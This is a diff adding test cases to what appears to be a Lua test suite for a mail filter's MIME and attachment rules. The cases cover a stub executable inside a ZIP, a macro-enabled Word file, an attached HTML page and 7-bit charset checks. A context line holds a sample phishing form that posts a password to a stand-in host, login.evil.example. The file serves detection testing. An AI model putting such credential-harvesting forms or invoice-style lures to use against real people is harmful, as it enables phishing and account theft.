@@ -53,6 +53,31 @@ return {
         'Content-Disposition: attachment; filename="report.pdf"\r\n' ..
         'Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoK' }),
       forbid = { 'MIME_BAD_EXTENSION', 'MIME_EXE_ATTACHMENT', 'MIME_BAD_ATTACHMENT' } },
+    { name = 'executable inside a ZIP', text = multipart('mixed', { plain,
+        'Content-Type: application/zip\r\n' ..
+        'Content-Disposition: attachment; filename="Invoice.zip"\r\n' ..
+        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAAAFurhl2chvChCAAAAAgAAAAQAAAAaW52b2ljZV8xMDIyLmV4ZU1akABmYWtlUEsBAhQDFAAAAAAAW6uGXZyG8KEIAAAACAAAABAAAAAAAAAAAAAAAIABAAAAAGludm9pY2VfMTAyMi5leGVQSwUGAAAAAAEAAQA+AAAANgAAAAAA' }),
+      expect = { 'MIME_BAD_EXTENSION' },
+      options = { MIME_BAD_EXTENSION = { 'Invoice.zip/invoice_1022.exe' } } },
+    { name = 'a document inside a ZIP is fine', text = multipart('mixed', { plain,
+        'Content-Type: application/zip\r\n' ..
+        'Content-Disposition: attachment; filename="reports.zip"\r\n' ..
+        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAAAFurhl34yZN/DQAAAA0AAAAKAAAAcmVwb3J0LnBkZiVQREYtMS40IGZha2VQSwECFAMUAAAAAABbq4Zd+MmTfw0AAAANAAAACgAAAAAAAAAAAAAAgAEAAAAAcmVwb3J0LnBkZlBLBQYAAAAAAQABADgAAAA1AAAAAAA=' }),
+      forbid = { 'MIME_BAD_EXTENSION', 'MIME_DOUBLE_BAD_EXTENSION' } },
+    { name = 'macro-enabled Office document', text = multipart('mixed', { plain,
+        'Content-Type: application/vnd.ms-word.document.macroEnabled.12\r\n' ..
+        'Content-Disposition: attachment; filename="PO_7781.docm"\r\n' ..
+        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAIAA==' }),
+      expect = { 'MIME_OFFICE_MACRO' }, forbid = { 'MIME_BAD_EXTENSION' } },
+    { name = 'a Word document without macros', text = multipart('mixed', { plain,
+        'Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n' ..
+        'Content-Disposition: attachment; filename="PO_7781.docx"\r\n' ..
+        'Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAIAA==' }),
+      forbid = { 'MIME_OFFICE_MACRO' } },
+    { name = 'an HTML page attached', text = multipart('mixed', { plain,
+        'Content-Type: text/html; name="Document.html"\r\n' ..
+        'Content-Disposition: attachment; filename="Document.html"\r\n\r\n<html></html>' }),
+      expect = { 'MIME_HTML_ATTACHMENT' } },
     { name = 'multipart/mixed with a single text part', text = multipart('mixed', { plain }),
       expect = { 'CTYPE_MIXED_BOGUS' } },
     { name = 'broken Content-Type', text = H .. 'Content-Type: ;;;\r\n\r\nhello\r\n',
@@ -60,6 +85,12 @@ return {
     { name = '8-bit text declared 7bit', text = H ..
         'Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
         'caf\233 cr\232me\r\n', expect = { 'R_BAD_CTE_7BIT' } },
+    { name = 'ISO-2022-JP text is 7-bit bytes', text = H ..
+        'Content-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
+        '\27$B$3$s$K$A$O\27(B\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
+    { name = 'plain ASCII declared 7bit', text = H ..
+        'Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
+        'cafe creme\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
     { name = 'phishing form with a password field', text = H ..
         'Content-Type: text/html\r\n\r\n<form action="http://login.evil.example/p" method="post">' ..
         '<input name="u"><input type="password" name="p"></form>',
